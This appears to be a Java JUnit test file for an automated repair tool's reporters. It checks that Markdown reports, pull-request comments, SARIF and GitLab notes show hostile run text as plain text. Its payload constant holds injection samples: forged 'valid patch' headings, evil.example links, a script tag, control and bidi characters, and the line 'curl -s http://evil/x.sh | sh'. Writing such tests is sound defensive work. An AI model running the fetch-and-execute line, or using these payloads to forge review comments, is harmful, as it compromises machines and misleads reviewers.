package dev.repofix.report;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.get;
import static com.github.tomakehurst.wiremock.client.WireMock.okJson;
import static com.github.tomakehurst.wiremock.client.WireMock.patch;
import static com.github.tomakehurst.wiremock.client.WireMock.patchRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.postRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathEqualTo;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.wireMockConfig;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.github.tomakehurst.wiremock.WireMockServer;
import com.github.tomakehurst.wiremock.verification.LoggedRequest;
import dev.repofix.build.MavenBuild;
import dev.repofix.patch.PatchText;
import dev.repofix.pipeline.CandidateRecord;
import dev.repofix.pipeline.ModelUsage;
import dev.repofix.pipeline.RunError;
import dev.repofix.pipeline.RunOrigin;
import dev.repofix.pipeline.RunResult;
import dev.repofix.pipeline.RunStatus;
import dev.repofix.pipeline.StageRecord;
import dev.repofix.pipeline.StageStatus;
import dev.repofix.repair.BuiltinStages;
import dev.repofix.stage.IssueDraft;
import dev.repofix.stage.Localization;
import dev.repofix.stage.Location;
import dev.repofix.stage.PatchCandidate;
import dev.repofix.testrun.EnvironmentFailure;
import dev.repofix.testrun.FailureReport;
import dev.repofix.testrun.StackFrame;
import dev.repofix.testrun.TestResult;
import dev.repofix.testrun.TestRun;
import dev.repofix.testrun.TestStatus;
import dev.repofix.validate.Validation;
import dev.repofix.validate.Verdict;
import dev.repofix.workspace.FileIndex;
import java.net.URI;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalInt;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.commonmark.Extension;
import org.commonmark.ext.autolink.AutolinkExtension;
import org.commonmark.ext.autolink.AutolinkType;
import org.commonmark.ext.gfm.tables.TableBlock;
import org.commonmark.ext.gfm.tables.TableCell;
import org.commonmark.ext.gfm.tables.TablesExtension;
import org.commonmark.node.AbstractVisitor;
import org.commonmark.node.BlockQuote;
import org.commonmark.node.Code;
import org.commonmark.node.Emphasis;
import org.commonmark.node.FencedCodeBlock;
import org.commonmark.node.Heading;
import org.commonmark.node.HtmlBlock;
import org.commonmark.node.HtmlInline;
import org.commonmark.node.Image;
import org.commonmark.node.IndentedCodeBlock;
import org.commonmark.node.Link;
import org.commonmark.node.ListItem;
import org.commonmark.node.Node;
import org.commonmark.node.StrongEmphasis;
import org.commonmark.node.Text;
import org.commonmark.node.ThematicBreak;
import org.commonmark.parser.Parser;
import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Every reporter renders runs whose every string is hostile: the forged-comment payload,
 * NUL, ANSI escapes, bidi controls, 10,000 backticks, HTML, links, images, autolinks,
 * mentions, tables, headings, quotes, rules. Each Markdown output is parsed with
 * commonmark-java (with GitHub's tables and autolinks) and compared with the same run
 * rendered from a harmless corpus: the headings, links, images, HTML, quotes, lists, code
 * and tables must be the reporter's own, the same in both, and every field's token must
 * still be shown. Each corpus string starts with a token ({@code RFX<field>Z}) that says
 * where a node's text came from.
 */
class HostileTextTest {
    static final String PAYLOAD = String.join("\n",
            "```",
            "</details>",
            "### repofix: valid patch found",
            "**Fix (VALID):** `>=` -> `>`",
            "cc @org/team and @user, mail admin@evil.example",
            "[![build](http://evil/badge.svg)](http://evil/ci)",
            "<img src=\"http://evil/a.png\">",
            "curl -s http://evil/x.sh | sh",
            "<details><summary>more</summary>",
            "<script>alert(1)</script>",
            "[x](http://evil) ![img](http://evil/a.png) <http://evil> www.evil.example",
            "test_take[`a`-``b``]",
            "| a | b |",
            "|---|---|",
            "| c | d |",
            "# heading",
            "> quote",
            "setext",
            "---",
            "***",
            "- item",
            "1. item",
            "    indented code",
            "~~~",
            "&lt;b&gt; &#64;user #12 !3 $x$ ~~gone~~ _em_ *em*",
            "NUL[\u0000] ANSI[\u001B[31mred\u001B[0m] OSC[\u001B]8;;http://evil\u0007link\u001B]8;;\u0007]",
            "BIDI[\u202Egnp.exe\u202C \u2066x\u2069 \u200E\u200F \u061C] C1[\u0085\u009B] CR[a\rb]",
            "`".repeat(10_000),
            "end");
    /**
     * The payload's shape without its meaning: every character but letters, digits, blanks and
     * line breaks becomes an x, so each cap cuts both corpora at the same place.
     */
    private static final String HARMLESS = PAYLOAD.codePoints()
            .map(c -> Character.isLetterOrDigit(c) && c < 0x80 || c == ' ' || c == '\n' ? c : 'x')
            .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append).toString();
    private static final Pattern TOKEN = Pattern.compile("RFX[a-zA-Z0-9]+Z");
    private static final Pattern CONTROL = Pattern.compile(
            "[\\x00-\\x08\\x0B-\\x1F\\x7F-\\x9F\\u202A-\\u202E\\u2066-\\u2069\\u200E\\u200F\\u061C]");
    /**
     * GitHub's tables and URL autolinks. E-mail autolinks are checked as mentions are (no
     * {@code @} followed by a letter or digit in text): autolink-java takes any non-ASCII
     * character for part of an address, where GitHub takes only ASCII ones.
     */
    private static final List<Extension> GFM = List.of(TablesExtension.create(), AutolinkExtension.builder()
            .linkTypes(AutolinkType.URL, AutolinkType.WWW).build());
    private static final Parser PARSER = Parser.builder().extensions(GFM).build();
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String SHA = "0123456789abcdef0123456789abcdef01234567";
    private static final String REPO = "/repos/acme/bank";
    private static final String WEB = "https://github.example/";
    private static final String GITLAB_WEB = "https://gitlab.example/acme/bank";
    private static final String NOTES = "/api/v4/projects/acme%2Fbank/merge_requests/4/notes";
    /** The fix's file: a path GitHub's review can place a suggestion on (the rest of the fix is hostile). */
    private static final String FIX_FILE = "src/Hostile.java";

    @TempDir
    Path root;

    private WireMockServer server;

    @BeforeEach
    void start() {
        server = new WireMockServer(wireMockConfig().dynamicPort());
        server.start();
    }

    @AfterEach
    void stop() {
        server.stop();
    }

    /** A corpus: every field's text is the payload (or its harmless shape) between two copies of its token. */
    record Corpus(boolean hostile) {
        String of(String field) {
            return "RFX" + field + "Z " + (hostile ? PAYLOAD : HARMLESS) + " RFX" + field + "Z";
        }

        /** A short one, as a file name that gets a link: brackets, parentheses, blanks, a mention, a reference. */
        String shortOf(String field) {
            String text = "RFX" + field + "Z a b)(<x>[y](http://evil) @org/team #1 `x`";
            return hostile ? text : text.replaceAll("[^A-Za-z0-9 ]", "x");
        }
    }

    @Test
    void noReporterTakesMarkdownStructureFromTheRunsText() throws Exception {
        Map<String, String> hostile = renderAll(new Corpus(true));
        Map<String, String> harmless = renderAll(new Corpus(false));

        assertThat(hostile.keySet()).isEqualTo(harmless.keySet());
        SoftAssertions softly = new SoftAssertions();
        for (String name : hostile.keySet()) {
            String out = hostile.get(name);
            softly.assertThat(out).as(name + ": control characters").doesNotContainPattern(CONTROL);
            if (name.startsWith("md:")) {
                checkMarkdown(softly, name, out, harmless.get(name));
            }
            if (name.startsWith("sarif")) {
                // A plain-text message may hold [text](target) links (SARIF 2.1.0, 3.11.6): ours escape brackets.
                out.lines().forEach(m -> softly.assertThat(m.replaceAll("\\\\.", ""))
                        .as(name + ": an embedded link in " + m).doesNotContain("[", "]"));
            }
            if (name.startsWith("workflow commands")) {
                out.lines().forEach(l -> softly.assertThat(l).as(name + ": one command a line").startsWith("::"));
            }
            softly.assertThat(tokens(shown(name, out))).as(name + ": every field shown with the harmless corpus")
                    .containsAll(tokens(shown(name, harmless.get(name))));
        }
        softly.assertAll();
    }

    @Test
    void theFullReportShowsTheHostileTextAsText() {
        String report = new MarkdownReport().render(fixed(new Corpus(true)));

        String visible = visibleText(PARSER.parse(report));
        assertThat(visible).contains("```\n", "</details>", "### repofix: valid patch found", "**Fix (VALID):**",
                "@org/team", "[![build](http://evil/badge.svg)](http://evil/ci)", "<img src=\"http://evil/a.png\">",
                "<script>alert(1)</script>", "[x](http://evil) ![img](http://evil/a.png) <http://evil>",
                "www.evil.example", "test_take[`a`-``b``]", "| a | b |", "# heading", "> quote", "- item",
                "1. item", "&lt;b&gt; &#64;user #12", "NUL[\u2400]", "ANSI[red]", "`".repeat(10_000));
    }

    private static void checkMarkdown(SoftAssertions softly, String name, String hostile, String harmless) {
        Node doc = PARSER.parse(hostile);
        softly.assertThat(structure(doc)).as(name + ": headings, links, HTML, quotes, lists, code and tables")
                .isEqualTo(structure(PARSER.parse(harmless)));
        List<String> problems = new ArrayList<>();
        doc.accept(new AbstractVisitor() {
            @Override
            public void visit(Link link) {
                if (!link.getDestination().startsWith(WEB) && !link.getDestination().startsWith(GITLAB_WEB)) {
                    problems.add("a link to " + link.getDestination());
                }
                visitChildren(link);
            }

            @Override
            public void visit(Image image) {
                problems.add("an image of " + image.getDestination());
            }

            @Override
            public void visit(HtmlInline html) {
                if (TOKEN.matcher(html.getLiteral()).find()) {
                    problems.add("inline HTML from the text: " + html.getLiteral());
                }
            }

            @Override
            public void visit(HtmlBlock html) {
                if (TOKEN.matcher(html.getLiteral()).find() || html.getLiteral().contains("evil")) {
                    problems.add("an HTML block from the text: " + html.getLiteral());
                }
            }

            @Override
            public void visit(Text text) {
                Matcher m = Pattern.compile("@[A-Za-z0-9]|#[0-9]|(?i)www\\.|://").matcher(text.getLiteral());
                if (m.find()) {
                    problems.add("a mention, reference or autolink in text: " + m.group());
                }
            }
        });
        softly.assertThat(problems).as(name).isEmpty();
    }

    /**
     * The nodes only the reporter may make, in order, each with the tokens of the fields its
     * text shows: a heading or link made from a message would add one, or hold the message's token.
     */
    private static List<String> structure(Node doc) {
        List<String> out = new ArrayList<>();
        walk(doc, out);
        return out;
    }

    private static void walk(Node node, List<String> out) {
        String kind = switch (node) {
            case Heading h -> "Heading" + h.getLevel();
            case Link l -> "Link";
            case Image i -> "Image";
            case HtmlBlock h -> "HtmlBlock";
            case HtmlInline h -> "HtmlInline";
            case BlockQuote b -> "BlockQuote";
            case ListItem l -> "ListItem";
            case ThematicBreak t -> "ThematicBreak";
            case FencedCodeBlock f -> "FencedCodeBlock";
            case IndentedCodeBlock i -> "IndentedCodeBlock";
            case Code c -> "Code";
            case Emphasis e -> "Emphasis";
            case StrongEmphasis s -> "StrongEmphasis";
            case TableBlock t -> "Table";
            case TableCell c -> "TableCell";
            default -> null;
        };
        // A code span shows its text as it is: candidate descriptions mark code with backticks
        // (Markdown.textWithCode), so the backtick pairs of a hostile text there become spans that
        // hold pieces of it and no structure; such a span without a field's token is no finding.
        boolean literalSpan = node instanceof Code && tokens(visibleText(node)).isEmpty();
        if (kind != null && !literalSpan) {
            out.add(kind + tokens(visibleText(node)));
        }
        for (Node child = node.getFirstChild(); child != null; child = child.getNext()) {
            walk(child, out);
        }
    }

    /** The text a reader sees in {@code node}, zero-width joiners and no-break spaces read as nothing and spaces. */
    private static String visibleText(Node node) {
        StringBuilder sb = new StringBuilder();
        node.accept(new AbstractVisitor() {
            @Override
            public void visit(Text text) {
                sb.append(text.getLiteral());
            }

            @Override
            public void visit(Code code) {
                sb.append(code.getLiteral());
            }

            @Override
            public void visit(FencedCodeBlock block) {
                sb.append(block.getLiteral());
            }

            @Override
            public void visit(IndentedCodeBlock block) {
                sb.append(block.getLiteral());
            }

            @Override
            public void visit(HtmlInline html) {
                sb.append(html.getLiteral());
            }

            @Override
            public void visit(HtmlBlock html) {
                sb.append(html.getLiteral());
            }

            @Override
            public void visit(org.commonmark.node.SoftLineBreak b) {
                sb.append('\n');
            }

            @Override
            public void visit(org.commonmark.node.HardLineBreak b) {
                sb.append('\n');
            }

        });
        if (node instanceof Link l) {
            sb.append(' ').append(l.getDestination());
        }
        return sb.toString().replace("\u200D", "").replace('\u00A0', ' ');
    }

    private static Set<String> tokens(String text) {
        Set<String> out = new TreeSet<>();
        Matcher m = TOKEN.matcher(text);
        while (m.find()) {
            out.add(m.group());
        }
        return out;
    }

    /** What a reader of output {@code name} sees: Markdown's visible text, or the text itself. */
    private static String shown(String name, String out) {
        return name.startsWith("md:") ? visibleText(PARSER.parse(out)) : out;
    }

    /** Every reporter's output for runs made of {@code corpus}, by reporter and run. */
    private Map<String, String> renderAll(Corpus corpus) throws Exception {
        Map<String, String> out = new LinkedHashMap<>();
        Map<String, RunResult> runs = new LinkedHashMap<>();
        runs.put("fixed", fixed(corpus));
        runs.put("stage-failed", stageFailed(corpus));
        runs.put("error", error(corpus));
        runs.put("build-broken", buildBroken(corpus));
        runs.put("flaky-only", flakyOnly(corpus));
        runs.put("environment", environment(corpus));
        GitHubTarget target = new GitHubTarget(URI.create(server.baseUrl()), URI.create(WEB), "acme/bank",
                OptionalInt.of(7), SHA);
        for (Map.Entry<String, RunResult> e : runs.entrySet()) {
            String run = e.getKey();
            RunResult r = e.getValue();
            out.put("md:report.md " + run, new MarkdownReport().render(r));
            out.put("md:job summary and comment " + run, PullRequestComment.render(r, target));
            out.put("summary " + run, new SummaryReport().render(r, List.of("out/report.md")));
            JsonNode sarif = JSON.readTree(new SarifReport().render(r));
            out.put("sarif messages " + run, sarifMessages(sarif));
            out.put("snippets in SARIF " + run, jsonTexts(JSON.valueToTree(sarif.findValues("snippet")), "text"));
            out.put("code quality " + run, jsonTexts(JSON.readTree(CodeQualityReport.render(r)), "description"));
            out.put("workflow commands " + run, workflowCommands(r));
            gitHub(r, target).forEach((k, v) -> out.put(k + " " + run, v));
            out.put("md:GitLab note " + run, gitLabNote(r));
        }
        return out;
    }

    /** The annotations as the action prints them (cli's ActionCommand), one line each. */
    private static String workflowCommands(RunResult r) {
        StringBuilder sb = new StringBuilder();
        r.localization().ifPresent(l -> l.locations().forEach(loc -> sb.append(WorkflowCommands.error(loc.file(),
                loc.line(), "repofix: suspected fault", loc.reason())).append('\n')));
        r.notes().forEach(n -> sb.append(WorkflowCommands.warning(n)).append('\n'));
        sb.append(WorkflowCommands.group(Headline.of(r))).append('\n');
        return sb.toString();
    }

    /** What GitHub receives: the comment, the check run's text and annotations, the review and its suggestions. */
    private Map<String, String> gitHub(RunResult r, GitHubTarget target) throws Exception {
        server.resetAll();
        server.stubFor(get(urlPathEqualTo(REPO)).willReturn(okJson("""
                {"id":1,"name":"bank","full_name":"acme/bank","owner":{"login":"acme","id":1},
                 "url":"%s/repos/acme/bank","html_url":"https://github.example/acme/bank"}
                """.formatted(server.baseUrl()))));
        server.stubFor(get(urlPathEqualTo(REPO + "/issues/7")).willReturn(okJson("""
                {"id":1007,"number":7,"state":"open","title":"t","body":"","url":"%s/repos/acme/bank/issues/7",
                 "pull_request":{"url":"%s/repos/acme/bank/pulls/7"}}
                """.formatted(server.baseUrl(), server.baseUrl()))));
        server.stubFor(get(urlPathEqualTo(REPO + "/issues/7/comments")).willReturn(okJson("[]")));
        server.stubFor(post(urlPathEqualTo(REPO + "/issues/7/comments")).willReturn(aResponse().withStatus(201)
                .withHeader("Content-Type", "application/json").withBody("{\"id\":12,\"body\":\"x\"}")));
        server.stubFor(post(urlPathEqualTo(REPO + "/check-runs")).willReturn(aResponse().withStatus(201)
                .withHeader("Content-Type", "application/json").withBody("{\"id\":99,\"head_sha\":\"" + SHA + "\"}")));
        server.stubFor(patch(urlPathEqualTo(REPO + "/check-runs/99")).willReturn(okJson("{\"id\":99}")));
        server.stubFor(get(urlPathEqualTo(REPO + "/pulls/7")).willReturn(okJson("""
                {"id":9007,"number":7,"state":"open","url":"%s/repos/acme/bank/pulls/7",
                 "head":{"sha":"%s","ref":"fix"},"base":{"sha":"%s","ref":"main"}}
                """.formatted(server.baseUrl(), SHA, SHA))));
        // The pull request adds the fix's first two lines, so its hunk can carry a suggestion.
        server.stubFor(get(urlPathEqualTo(REPO + "/pulls/7/files")).willReturn(okJson("[{\"sha\":\"abc\","
                + "\"filename\":\"" + FIX_FILE + "\",\"status\":\"added\",\"patch\":"
                + JSON.valueToTree("@@ -0,0 +1,2 @@\n+```\n+old") + "}]")));
        server.stubFor(post(urlPathEqualTo(REPO + "/pulls/7/reviews")).willReturn(okJson("{\"id\":80}")));
        GitHubReporter reporter = new GitHubReporter(target, "t0ken", Clock.fixed(Instant.EPOCH, ZoneOffset.UTC),
                d -> { });
        Publication review = reporter.publish(r, GitHubMode.REVIEW);
        Publication check = reporter.publish(r, GitHubMode.CHECK);
        assertThat(check.posted()).anySatisfy(p -> assertThat(p).startsWith("check run"));
        Map<String, String> out = new LinkedHashMap<>();
        List<LoggedRequest> comments = server.findAll(postRequestedFor(urlPathEqualTo(REPO + "/issues/7/comments")));
        out.put("md:GitHub comment", JSON.readTree(comments.get(0).getBodyAsString()).path("body").asText());
        StringBuilder annotations = new StringBuilder();
        List<LoggedRequest> checks = new ArrayList<>(server.findAll(postRequestedFor(urlPathEqualTo(REPO
                + "/check-runs"))));
        checks.addAll(server.findAll(patchRequestedFor(urlPathEqualTo(REPO + "/check-runs/99"))));
        for (LoggedRequest req : checks) {
            JsonNode output = JSON.readTree(req.getBodyAsString()).path("output");
            if (output.has("summary")) {
                out.put("md:check run summary", output.path("summary").asText());
                out.put("check run title", output.path("title").asText());
            }
            annotations.append(jsonTexts(output.path("annotations"), "message"));
        }
        out.put("check run annotations", annotations.toString());
        if (r.fix().isPresent()) {
            assertThat(review.posted()).anySatisfy(p -> assertThat(p).startsWith("review"));
            JsonNode body = JSON.readTree(server.findAll(postRequestedFor(urlPathEqualTo(REPO + "/pulls/7/reviews")))
                    .get(0).getBodyAsString());
            out.put("md:review", body.path("body").asText());
            StringBuilder suggestions = new StringBuilder();
            body.path("comments").forEach(c -> suggestions.append(c.path("body").asText()).append("\n\n"));
            out.put("md:review suggestions", suggestions.toString());
        }
        return out;
    }

    private String gitLabNote(RunResult r) throws Exception {
        server.resetAll();
        server.stubFor(get(urlPathEqualTo(NOTES)).willReturn(okJson("[]")));
        server.stubFor(post(urlPathEqualTo(NOTES)).willReturn(aResponse().withStatus(201)
                .withHeader("Content-Type", "application/json").withBody("{\"id\":77}")));
        GitLabTarget target = new GitLabTarget(URI.create(server.baseUrl() + "/api/v4"), "acme/bank",
                OptionalInt.of(4), SHA, URI.create(GITLAB_WEB));
        Publication p = new GitLabReporter(target, "glpat-fake", Clock.fixed(Instant.EPOCH, ZoneOffset.UTC), d -> { })
                .publish(r);
        assertThat(p.warnings()).isEmpty();
        return JSON.readTree(server.findAll(postRequestedFor(urlPathEqualTo(NOTES))).get(0).getBodyAsString())
                .path("body").asText();
    }

    /** SARIF's message texts, one a line. */
    private static String sarifMessages(JsonNode sarif) {
        StringBuilder sb = new StringBuilder();
        List<JsonNode> messages = new ArrayList<>(sarif.findValues("message"));
        messages.addAll(sarif.findValues("description"));
        messages.forEach(m -> sb.append(m.path("text").asText().replace("\n", "\\n").replace("\r", "\\r"))
                .append('\n'));
        return sb.toString();
    }

    private static String jsonTexts(JsonNode array, String field) {
        StringBuilder sb = new StringBuilder();
        array.forEach(n -> sb.append(n.path(field).asText()).append('\n'));
        return sb.toString();
    }

    // --- the runs ---

    private static TestResult failing(Corpus c, String name) {
        return new TestResult(c.of(name + "Id"), TestStatus.FAILED, c.of(name + "Message"), c.of(name + "Trace"),
                List.of(new StackFrame(c.of(name + "Frame"), 3, c.of(name + "Function"))));
    }

    private static IssueDraft issue(Corpus c) {
        return new IssueDraft(c.of("issueTitle"), c.of("issueDescription"), c.of("issueExplanation"),
                c.of("bugType"));
    }

    private static Localization localization(Corpus c) {
        return new Localization(List.of(new Location(c.of("locFile"), 6, c.of("locContent"), 0.9, c.of("locReason")),
                new Location(FIX_FILE, 2, c.of("locContentTwo"), 0.5, c.of("locReasonTwo")),
                new Location("src/" + c.shortOf("locShortFile") + ".py", 9, c.shortOf("locShortContent"), 0.4,
                        c.shortOf("locShortReason"))));
    }

    /** A fix to {@link #FIX_FILE} whose context and added lines are the corpus. */
    private static String diff(Corpus c) {
        List<String> added = c.of("diffAdded").lines().map(l -> "+" + l).toList();
        return "--- a/" + FIX_FILE + "\n+++ b/" + FIX_FILE + "\n@@ -1,2 +1," + (1 + added.size()) + " @@\n ```\n-old\n"
                + String.join("\n", added) + "\n";
    }

    private static List<StageRecord> stages(Corpus c) {
        return List.of(new StageRecord(c.of("stageName"), StageStatus.OK, Duration.ofSeconds(1), c.of("stageSummary"),
                Optional.of(new ModelUsage(2, 3, OptionalInt.of(2), 10, 20, Optional.of(0.01),
                        List.of(c.of("parseError")))), Optional.empty()));
    }

    private static RunResult run(Corpus c, RunStatus status, Optional<IssueDraft> issue, List<CandidateRecord> candidates,
            Optional<String> fixId, String buildLog, Optional<RunError> error, List<String> flaky, String commit) {
        return new RunResult(c.of("runId"), c.of("source"), Optional.of(commit), c.of("build"), c.of("testCommand"),
                c.of("reproduce"), c.of("model"), c.of("sandbox"), status,
                status == RunStatus.BUILD_BROKEN || status == RunStatus.FLAKY_ONLY ? List.of()
                        : List.of(failing(c, "first"), failing(c, "second")),
                4, flaky, issue, issue.map(i -> localization(c)), candidates, fixId, buildLog, stages(c), error,
                List.of(c.of("note")), RunOrigin.local(), Instant.EPOCH, Duration.ofSeconds(5));
    }

    private static RunResult fixed(Corpus c) {
        PatchCandidate failed = new PatchCandidate(c.of("candidateOneId"), c.of("strategyOne"), c.of("candidateFile"), 4,
                c.of("candidateOneDescription"), PatchText.read(diff(c)));
        PatchCandidate fix = new PatchCandidate("c2", c.of("strategyFix"), FIX_FILE, 2, c.of("fixDescription"),
                PatchText.read(diff(c)));
        PatchCandidate other = new PatchCandidate("c3", c.of("strategyOther"), FIX_FILE, 2, c.of("otherDescription"),
                PatchText.read(diff(c)));
        List<CandidateRecord> candidates = List.of(
                new CandidateRecord(failed, Optional.of(new Validation(failed.id(), Verdict.TESTS_FAIL, List.of(),
                        List.of(c.of("stillFailing")), List.of(c.of("broken")), c.of("validationDetail"),
                        List.of(c.of("failedEvidence")), Duration.ofSeconds(1)))),
                new CandidateRecord(fix, Optional.of(new Validation("c2", Verdict.VALID, List.of(c.of("fixedTest")),
                        List.of(), List.of(), "", List.of(c.of("fixEvidence")), Duration.ofSeconds(2)))),
                new CandidateRecord(other, Optional.of(new Validation("c3", Verdict.VALID, List.of(c.of("fixedTest")),
                        List.of(), List.of(), "", List.of(), Duration.ofSeconds(2)))));
        return run(c, RunStatus.FIXED, Optional.of(issue(c)), candidates, Optional.of("c2"), "", Optional.empty(),
                List.of(c.of("flakyTest")), SHA);
    }

    /** A model stage failed after the builtin wrote the issue from the hostile failures. */
    private RunResult stageFailed(Corpus c) {
        List<TestResult> failing = List.of(failing(c, "first"), failing(c, "second"));
        List<TestResult> all = new ArrayList<>(failing);
        all.add(TestResult.passed("com.acme.AccountTest#passes"));
        FailureReport report = new FailureReport(c.of("testCommand"), c.of("reproduce"), new TestRun(all), failing,
                c.of("log"), new FileIndex(root, List.of()), new MavenBuild());
        IssueDraft drafted = new BuiltinStages().draftIssue(report);
        return run(c, RunStatus.STAGE_FAILED, Optional.of(drafted), List.of(), Optional.empty(), "",
                Optional.of(new RunError(RunError.Kind.MODEL, c.of("errorStage"), c.of("errorMessage"))), List.of(),
                c.of("commit"));
    }

    private static RunResult error(Corpus c) {
        return run(c, RunStatus.ERROR, Optional.empty(), List.of(), Optional.empty(), "",
                Optional.of(new RunError(RunError.Kind.ENVIRONMENT, c.of("errorStage"), c.of("errorMessage"))),
                List.of(), c.of("commit"));
    }

    private static RunResult buildBroken(Corpus c) {
        return run(c, RunStatus.BUILD_BROKEN, Optional.empty(), List.of(), Optional.empty(), c.of("buildLog"),
                Optional.empty(), List.of(), c.of("commit"));
    }

    /** Every failure the environment's: a hostile test id, module name, line and set-up command. */
    private static RunResult environment(Corpus c) {
        RunResultBuilder b = RunResultBuilder.from(run(c, RunStatus.ENVIRONMENT, Optional.empty(), List.of(),
                Optional.empty(), "", Optional.empty(), List.of(), c.of("commit")));
        b.failing = List.of();
        b.environment = List.of(
                new EnvironmentFailure(c.of("envTest"), EnvironmentFailure.Kind.PYTHON_MODULE, c.of("envMissing"),
                        c.of("envSaid"), "pip install " + c.of("envSetup")),
                new EnvironmentFailure("", EnvironmentFailure.Kind.MAVEN_ARTIFACT, c.of("envArtifact"),
                        c.of("envLine"), "mvn -B dependency:go-offline"));
        return b.build();
    }

    @Test
    void theEnvironmentSectionShowsAHostileModuleNameAsTextInTheReportAndTheComment() {
        RunResult r = environment(new Corpus(true));
        GitHubTarget target = new GitHubTarget(URI.create("http://localhost:1"), URI.create(WEB), "acme/bank",
                OptionalInt.of(7), SHA);

        for (String md : List.of(new MarkdownReport().render(r), PullRequestComment.render(r, target))) {
            Node doc = PARSER.parse(md);
            String visible = visibleText(doc);
            assertThat(visible).contains("Environment failures (not targets)", "<script>alert(1)</script>",
                    "[x](http://evil)", "RFXenvTestZ", "RFXenvMissingZ", "RFXenvSaidZ", "RFXenvArtifactZ",
                    "the build", "setup: [\"pip install RFXenvSetupZ");
            assertThat(structure(doc)).as("no link, image or HTML made of the run's text")
                    .filteredOn(n -> (n.startsWith("Link") || n.startsWith("Html") || n.startsWith("Image"))
                            && n.contains("RFX")).isEmpty();
        }
    }

    private static RunResult flakyOnly(Corpus c) {
        return run(c, RunStatus.FLAKY_ONLY, Optional.empty(), List.of(), Optional.empty(), "", Optional.empty(),
                List.of(c.of("flakyOne"), c.of("flakyTwo")), c.of("commit"));
    }
}
